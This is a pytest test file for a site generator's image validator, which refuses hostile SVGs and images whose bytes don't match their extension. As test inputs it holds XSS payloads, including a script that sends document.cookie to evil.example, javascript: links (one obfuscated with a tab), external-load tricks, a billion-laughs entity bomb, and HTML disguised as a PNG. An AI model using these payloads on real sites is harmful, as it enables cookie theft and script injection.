"""Images beside plays are checked before they can be published (issue 12, case 8; generator/sources/images.py).

An image is served from the site's own address: an SVG with script in it, or a `.png` that
is really an HTML page, runs in the site's origin when someone opens it. Each image's bytes
must match its extension, and an SVG must be a plain drawing. Every image in a playbook
folder is checked, whether or not a page shows it yet.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from generator.cli import commands as cli

from .conftest import base_project, playbooks
from .test_inputs_files import PLAY, link_image_from_play, png

FOLDER = PLAY.parent
SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10">\n{}\n</svg>\n'


def validate(project: Path, capsys: pytest.CaptureFixture[str]) -> tuple[int, list[str]]:
    """`playbooks validate` on the project: its exit code and its problem lines."""
    code = cli.main(["validate", "--root", str(project)])
    return code, capsys.readouterr().err.strip().splitlines()[:-1]


def with_image(tmp_path: Path, name: str, data: bytes) -> Path:
    project = base_project(tmp_path / "project")
    (project / FOLDER / name).write_bytes(data)
    link_image_from_play(project, name)
    return project


def test_an_svg_with_script_is_refused_where_the_script_is(tmp_path, capsys):
    drawing = SVG.format('<circle r="4"/>\n  <script>fetch("https://evil.example/?" + document.cookie)</script>')
    code, lines = validate(with_image(tmp_path, "diagram.svg", drawing.encode()), capsys)
    assert code == 1
    assert lines == ["playbooks/governance/diagram.svg:3:3: an SVG image may not hold `<script>` elements: images must be "
                     "plain drawings (no script, embedded documents or animation); remove it"]


HOSTILE_SVG = {
    "event attribute": ('<rect width="4" height="4" onload="alert(1)"/>', "event attributes like `onload`"),
    "event attribute, upper case": ('<rect width="4" height="4" ONCLICK="alert(1)"/>', "event attributes like `ONCLICK`"),
    "script under a prefix": ('<s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script>', "`<script>` element"),
    "XHTML script": ('<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>', "`<script>` element"),
    "any XHTML element": ('<h:img xmlns:h="http://www.w3.org/1999/xhtml" src="x"/>', "`<img>` element"),
    "foreignObject": ('<foreignObject width="9" height="9"><p>hi</p></foreignObject>', "`<foreignObject>` element"),
    "iframe": ('<iframe src="https://evil.example/"/>', "`<iframe>` element"),
    "embed": ('<embed src="https://evil.example/x.swf"/>', "`<embed>` element"),
    "object": ('<object data="https://evil.example/"/>', "`<object>` element"),
    "animate turning a link into script": (
        '<a href="#c"><animate attributeName="href" to="javascript:alert(1)"/><circle id="c" r="4"/></a>',
        "`<animate>` element"),
    "set": ('<a href="#c"><set attributeName="href" to="javascript:alert(1)"/></a>', "`<set>` element"),
    "javascript link": ('<a href="javascript:alert(1)"><circle r="4"/></a>', "link only to parts of itself"),
    "javascript link hidden by a tab": ('<a xlink:href="java&#9;script:alert(1)"><circle r="4"/></a>',
                                        "link only to parts of itself"),
    "link to another site": ('<a href="https://evil.example/"><circle r="4"/></a>', "link only to parts of itself"),
    "image from elsewhere": ('<image href="https://evil.example/track.png" width="1" height="1"/>',
                             "link only to parts of itself"),
    "data address": ('<rect width="4" height="4" fill="url(data:image/svg+xml;base64,PHN2Zz4=)"/>',
                     "`javascript:`, `vbscript:` or `data:` addresses"),
    "paint from elsewhere": ('<rect width="4" height="4" fill="url(https://evil.example/p.svg#g)"/>',
                             "may not load anything from elsewhere (attribute `fill`"),
    "style importing": ('<style>@import "https://evil.example/x.css";</style>', "style may not load anything"),
    "style loading": ('<style>\nrect { fill: url(\n  https://evil.example/p.svg#g) }\n</style>', "style may not load anything"),
    "processing instruction": ('<?xml-stylesheet type="text/xsl" href="https://evil.example/x.xsl"?>',
                               "processing instructions like `<?xml-stylesheet ...?>`"),
}


@pytest.mark.parametrize("case", sorted(HOSTILE_SVG))
def test_an_svg_that_is_more_than_a_drawing_is_refused(tmp_path, capsys, case):
    inside, expected = HOSTILE_SVG[case]
    code, lines = validate(with_image(tmp_path, "diagram.svg", SVG.format(inside).encode()), capsys)
    assert code == 1
    assert len(lines) >= 1 and all(line.startswith("playbooks/governance/diagram.svg:") for line in lines), lines
    assert any(expected in line for line in lines), lines


def test_an_svg_with_entities_is_refused_before_they_expand(tmp_path, capsys):
    laughs = ('<?xml version="1.0"?>\n<!DOCTYPE svg [\n<!ENTITY a "lol">\n'
              + "".join(f'<!ENTITY {chr(98 + i)} "&{chr(97 + i)};&{chr(97 + i)};&{chr(97 + i)};&{chr(97 + i)};">\n'
                        for i in range(20))
              + ']>\n<svg xmlns="http://www.w3.org/2000/svg"><text>&u;</text></svg>\n')
    code, lines = validate(with_image(tmp_path, "laughs.svg", laughs.encode()), capsys)
    assert code == 1
    assert lines == ["playbooks/governance/laughs.svg:2:1: an SVG image may not declare a DOCTYPE or entities: remove the "
                     "`<!DOCTYPE ...>` part (drawing programs can export plain SVG)"]


def test_an_unused_svg_with_script_is_refused_too(tmp_path, capsys):
    project = base_project(tmp_path / "project")
    (project / FOLDER / "later.svg").write_text(SVG.format("<script>alert(1)</script>"), "utf-8")
    code, lines = validate(project, capsys)
    assert code == 1 and len(lines) == 1 and "playbooks/governance/later.svg:2:1: " in lines[0]


@pytest.mark.parametrize("name, data, kind", [
    ("diagram.png", b"<html><script>alert(document.cookie)</script></html>", "PNG"),
    ("photo.jpg", png(), "JPEG"),
    ("photo.jpeg", b"GIF89a" + b"\0" * 20, "JPEG"),
    ("anim.gif", b"\xff\xd8\xff\xe0" + b"\0" * 20, "GIF"),
    ("picture.webp", b"RIFF\0\0\0\0WAVEfmt ", "WebP"),
    ("handout.pdf", b"<!doctype html><script>alert(1)</script>", "PDF"),
])
def test_an_image_whose_bytes_do_not_match_its_extension_is_refused(tmp_path, capsys, name, data, kind):
    code, lines = validate(with_image(tmp_path, name, data), capsys)
    suffix = name.rsplit(".", 1)[1]
    assert code == 1
    assert lines == [f"playbooks/governance/{name}:1:1: this is not a {kind} file, though its name ends in `.{suffix}`: its "
                     f"first bytes are not those of a {kind} image; save the image as {kind} again, or give the file its "
                     "real extension"]


def test_a_plain_drawing_and_real_images_are_published_as_they_are(tmp_path):
    """The checks refuse no ordinary drawing: gradients, `<use>`, styles, an editor's metadata."""
    drawing = SVG.format(
        '<!-- made by hand -->\n<defs><linearGradient id="g"><stop offset="0" stop-color="#fff"/></linearGradient>'
        '<circle id="dot" r="2"/></defs>\n<style>.a { fill: url(#g); stroke: #333 }</style>\n'
        '<rect class="a" width="9" height="9" fill="url(#g)" style="stroke-width: 1"/>\n<use xlink:href="#dot" x="5"/>\n'
        '<a href="#dot"><text x="1" y="9">Some data: 5 items</text></a>\n'
        '<metadata><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/></metadata>'
    ).replace("<svg ", '<svg xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" inkscape:version="1.3" ', 1)
    images = {"drawing.svg": ('<?xml version="1.0" encoding="UTF-8"?>\n' + drawing).encode(), "diagram.png": png(b"real"),
              "photo.jpg": b"\xff\xd8\xff\xe0\0\x10JFIF\0", "anim.gif": b"GIF89a\1\0\1\0\0\0\0;",
              "picture.webp": b"RIFF\x1a\0\0\0WEBPVP8L", "handout.pdf": b"%PDF-1.7\n%%EOF\n"}
    project = base_project(tmp_path / "project")
    for name, data in images.items():
        (project / FOLDER / name).write_bytes(data)
        link_image_from_play(project, name)
    result = playbooks("build", "--root", project)
    assert result.returncode == 0, result.stderr
    for name, data in images.items():
        assert (project / "site/playbooks/governance" / name).read_bytes() == data
